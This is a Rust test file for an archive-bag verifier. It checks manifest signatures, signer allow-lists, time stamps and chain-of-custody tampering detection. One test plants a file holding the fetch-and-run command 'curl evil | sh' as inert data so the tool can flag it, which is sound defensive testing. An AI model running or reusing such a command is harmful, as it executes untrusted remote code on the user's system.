//! Signatures, time stamps and handovers: who vouches for a bag, and what is found when somebody else meddled.

use std::fs;
use std::path::{Path, PathBuf};

use larder::digest::Sha256Digest;
use larder::evidence::signature::{NAMESPACE, sign};
use larder::evidence::ssh::SigningKey;
use larder::evidence::timestamp::Request;

use super::{copy, findings, found, make_bag, verify};
use crate::signature::{allow, keygen, public, tools};
use crate::tsa::{Mood, P256, Tsa};

const SIG: &str = "tagmanifest-sha256.txt.sig";

pub fn sign_bag(bag: &Path, key: &Path, namespace: &str) {
    let key = SigningKey::from_file(key, &mut |_| Ok(None)).unwrap();
    let message = fs::read(bag.join("tagmanifest-sha256.txt")).unwrap();
    fs::write(bag.join(SIG), sign(&key, namespace, &message).unwrap()).unwrap();
}

/// A signed bag, its key, and the file that allows it.
fn signed(dir: &Path) -> (PathBuf, String) {
    make_bag(&dir.join("bag"), &[("a", b"1"), ("b", b"2")]);
    let key = keygen(dir, "key", "ed25519", &[], "");
    sign_bag(&dir.join("bag"), &key, NAMESPACE);
    let allowed = allow(dir, &key);
    (key, allowed.to_str().unwrap().to_owned())
}

#[test]
fn in_a_signed_bag_the_signed_manifest_alone_vouches() {
    if !tools() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (_, allowed) = signed(dir.path());
    let bag = dir.path().join("bag");
    fs::write(bag.join("evil.sh"), "curl evil | sh").unwrap();
    // By an algorithm that was not used, so that it is one more tag manifest and no change of the signed one.
    let sha512 = std::process::Command::new("sha512sum")
        .arg("evil.sh")
        .current_dir(&bag)
        .output()
        .unwrap();
    fs::write(bag.join("tagmanifest-sha512.txt"), sha512.stdout).unwrap();
    let planted = [
        ("unexpected", "evil.sh"),
        ("unexpected", "tagmanifest-sha512.txt"),
    ];
    found(
        dir.path(),
        &["--allowed-signers", &allowed, "bag"],
        &planted,
    );
    found(dir.path(), &["bag"], &planted);
}

#[test]
fn a_path_that_cannot_be_verified_hides_no_other() {
    let dir = tempfile::tempdir().unwrap();
    let dir = dir.path();
    make_bag(&dir.join("good"), &[("a", b"1")]);
    make_bag(&dir.join("bad"), &[("a", b"1")]);
    fs::write(dir.join("bad/data/a"), "2").unwrap();
    fs::create_dir(dir.join("none")).unwrap();
    fs::write(dir.join("none/x"), "").unwrap();
    for (paths, code, stdout, stderr) in [
        (&["bad", "nowhere", "good"][..], 1, "data/a", "nowhere"),
        (&["nowhere", "good"], 8, "verified good", "nowhere"),
        (&["bad", "none"], 2, "data/a", "none"),
    ] {
        let ran = verify(dir, paths).expect(code);
        assert!(ran.stdout.contains(stdout), "{paths:?}: {ran:?}");
        assert!(ran.stderr.contains(stderr), "{paths:?}: {ran:?}");
    }
}

#[test]
fn who_signed_is_checked_and_told() {
    if !tools() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (key, allowed) = signed(dir.path());
    let dir = dir.path();
    let fingerprint = public(&key).fingerprint();
    found(dir, &["bag"], &[]);
    let text = verify(dir, &["bag"]).expect(0).stdout;
    assert!(
        text.contains(&fingerprint) && text.contains("not trusted"),
        "{text}"
    );
    found(
        dir,
        &["--allowed-signers", &allowed, "--require-signature", "bag"],
        &[],
    );
    let json = verify(
        dir,
        &["--output", "json", "--allowed-signers", &allowed, "bag"],
    )
    .expect(0)
    .json();
    let signature = &json["paths"][0]["signature"];
    assert_eq!(signature["key"], fingerprint);
    assert_eq!(signature["trusted"], true);
    assert_eq!(signature["principals"][0], "someone@example.org");
    // Another's key, another purpose, another time.
    let other = keygen(dir, "other", "ed25519", &[], "");
    let line = public(&key).to_line();
    for (text, kind) in [
        (format!("x {}", public(&other).to_line()), "untrusted"),
        (format!("x namespaces=\"file\" {line}"), "untrusted"),
        (format!("x valid-before=\"20200101Z\" {line}"), "untrusted"),
        (format!("x cert-authority {line}"), "untrusted"),
        (format!("x,!y@z valid-after=20260101 {line}"), "untrusted"),
        (String::new(), "untrusted"),
    ] {
        fs::write(dir.join("list"), &text).unwrap();
        found(dir, &["--allowed-signers", "list", "bag"], &[(kind, SIG)]);
    }
    // As whom.
    fs::write(
        dir.join("list"),
        format!("nonsense\n*@a.org,!c@a.org {line}"),
    )
    .unwrap();
    for (principal, want) in [("b@a.org", &[][..]), ("c@a.org", &[("untrusted", SIG)])] {
        let options = ["--allowed-signers", "list", "--identity", principal, "bag"];
        found(dir, &options, want);
        let text = verify(dir, &options).stdout;
        assert!(text.contains("line 1 of the allowed signers"), "{text}");
    }
    verify(dir, &["--identity", "x", "bag"]).expect(2);
    sign_bag(&dir.join("bag"), &key, "file");
    found(dir, &["bag"], &[("signature", SIG)]);
    sign_bag(&dir.join("bag"), &other, NAMESPACE);
    found(dir, &["bag"], &[]);
    found(
        dir,
        &["--allowed-signers", &allowed, "bag"],
        &[("untrusted", SIG)],
    );
    fs::write(dir.join("bag").join(SIG), "nonsense").unwrap();
    found(dir, &["bag"], &[("signature", SIG)]);
    fs::remove_file(dir.join("bag").join(SIG)).unwrap();
    found(dir, &["bag"], &[]);
    found(dir, &["--require-signature", "bag"], &[("unsigned", SIG)]);
    found(
        dir,
        &["--allowed-signers", &allowed, "bag"],
        &[("unsigned", SIG)],
    );
}

/// Whoever changes a file and every manifest above it cannot sign.
#[test]
fn consistent_changes_break_the_signature() {
    if !tools() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (_, allowed) = signed(dir.path());
    let dir = dir.path();
    let bag = dir.join("bag");
    let armor = fs::read(bag.join(SIG)).unwrap();
    fs::remove_dir_all(&bag).unwrap();
    make_bag(&bag, &[("a", b"1"), ("b", b"changed")]);
    fs::write(bag.join(SIG), armor).unwrap();
    for arguments in [&["bag"][..], &["--allowed-signers", &allowed, "bag"]] {
        found(dir, arguments, &[("signature", SIG)]);
    }
    fs::remove_file(bag.join("tagmanifest-sha256.txt")).unwrap();
    found(dir, &["bag"], &[("unexpected", SIG), ("signature", SIG)]);
}

fn stamp(tsa: &Tsa, bag: &Path) {
    let digest = Sha256Digest::of(&fs::read(bag.join(SIG)).unwrap());
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let stamp = runtime
        .block_on(Request::new(digest).send(&crate::tsa::client(), &tsa.url))
        .unwrap();
    fs::write(bag.join("tagmanifest-sha256.txt.sig.tsr"), stamp).unwrap();
}

#[test]
fn a_time_stamp_is_checked_and_told() {
    if !tools() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (key, allowed) = signed(dir.path());
    let Some(tsa) = Tsa::start(dir.path(), P256, "tsa", Mood::Honest) else {
        return;
    };
    let dir = dir.path();
    let (bag, ca) = (dir.join("bag"), tsa.ca.to_str().unwrap());
    const TSR: &str = "tagmanifest-sha256.txt.sig.tsr";
    found(dir, &["--tsa-ca", ca, "bag"], &[("timestamp", TSR)]);
    stamp(&tsa, &bag);
    found(
        dir,
        &["--allowed-signers", &allowed, "--tsa-ca", ca, "bag"],
        &[],
    );
    let text = verify(dir, &["bag"]).expect(0).stdout;
    assert!(text.contains("not checked"), "{text}");
    let text = verify(dir, &["--tsa-ca", ca, "bag"]).expect(0).stdout;
    assert!(text.contains("an authority that is trusted"), "{text}");
    // Another authority; another signature; no stamp at all; no signature.
    let elsewhere = tempfile::tempdir().unwrap();
    let Some(stranger) = Tsa::start(elsewhere.path(), P256, "tsa", Mood::Honest) else {
        return;
    };
    found(
        dir,
        &["--tsa-ca", stranger.ca.to_str().unwrap(), "bag"],
        &[("timestamp", TSR)],
    );
    let other = keygen(dir, "other", "ed25519", &[], "");
    sign_bag(&bag, &other, NAMESPACE);
    found(dir, &["bag"], &[("timestamp", TSR)]);
    sign_bag(&bag, &key, NAMESPACE);
    fs::write(bag.join(TSR), "nonsense").unwrap();
    found(dir, &["bag"], &[("timestamp", TSR)]);
    fs::remove_file(bag.join(SIG)).unwrap();
    found(dir, &["bag"], &[("timestamp", TSR)]);
}

#[test]
fn the_chain_of_custody_is_checked_and_a_cut_is_found() {
    if !tools() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (key, allowed) = signed(dir.path());
    let dir = dir.path();
    let key = key.to_str().unwrap();
    let add = |operator: &str| {
        let mut command = crate::harness::bare(dir);
        command.args([
            "custody",
            "add",
            "bag",
            "--output",
            "json",
            "--operator",
            operator,
            "--sign-key",
            key,
        ]);
        let ran = crate::harness::run(&mut command).expect(0);
        ran.json()["head"].as_str().unwrap().to_owned()
    };
    let (first, second, third) = (add("one"), add("two"), add("three"));
    let with = |head: &str| {
        findings(
            dir,
            &["--allowed-signers", &allowed, "--custody-head", head, "bag"],
        )
    };
    assert_eq!(with(&third), []);
    // A head that was noted earlier is still in the chain.
    assert_eq!(with(&first), []);
    assert_eq!(with(&second), []);
    let json = verify(dir, &["--output", "json", "bag"]).expect(0).json();
    assert_eq!(json["paths"][0]["custody"]["entries"], 3);
    assert_eq!(json["paths"][0]["custody"]["head"], third);
    let chain = dir.join("bag.custody");
    let whole = dir.join("whole");
    copy(&chain, &whole);
    let restore = || {
        super::unlock(&chain);
        fs::remove_dir_all(&chain).unwrap();
        copy(&whole, &chain);
        super::unlock(&chain);
    };
    let remove = |number: u32| {
        for name in [format!("{number:04}.json"), format!("{number:04}.json.sig")] {
            fs::remove_file(chain.join(name)).unwrap();
        }
    };
    let is_custody = |kinds: Vec<(String, String)>| {
        assert!(
            !kinds.is_empty()
                && kinds
                    .iter()
                    .all(|(kind, path)| kind == "custody" && path.starts_with("bag.custody/")),
            "{kinds:?}"
        );
    };
    // The end is cut off: only the head that was noted shows it.
    super::unlock(&chain);
    remove(3);
    found(dir, &["bag"], &[]);
    is_custody(with(&third));
    restore();
    remove(2);
    is_custody(findings(dir, &["bag"]));
    restore();
    let entry = chain.join("0002.json");
    fs::write(
        &entry,
        fs::read_to_string(&entry).unwrap().replace("two", "TWO"),
    )
    .unwrap();
    is_custody(findings(dir, &["bag"]));
    restore();
    fs::copy(chain.join("0001.json"), chain.join("0003.json")).unwrap();
    fs::copy(chain.join("0001.json.sig"), chain.join("0003.json.sig")).unwrap();
    is_custody(findings(dir, &["bag"]));
    super::unlock(&chain);
    fs::remove_dir_all(&chain).unwrap();
    is_custody(with(&third));
    found(dir, &["bag"], &[]);
    // The chain of another bag.
    restore_for_another(dir, &whole);
    let kinds = findings(dir, &["second"]);
    assert!(
        kinds.iter().all(|(kind, _)| kind == "custody") && kinds.len() >= 3,
        "{kinds:?}"
    );
}

fn restore_for_another(dir: &Path, whole: &Path) {
    make_bag(&dir.join("second"), &[("x", b"1")]);
    copy(whole, &dir.join("second.custody"));
}
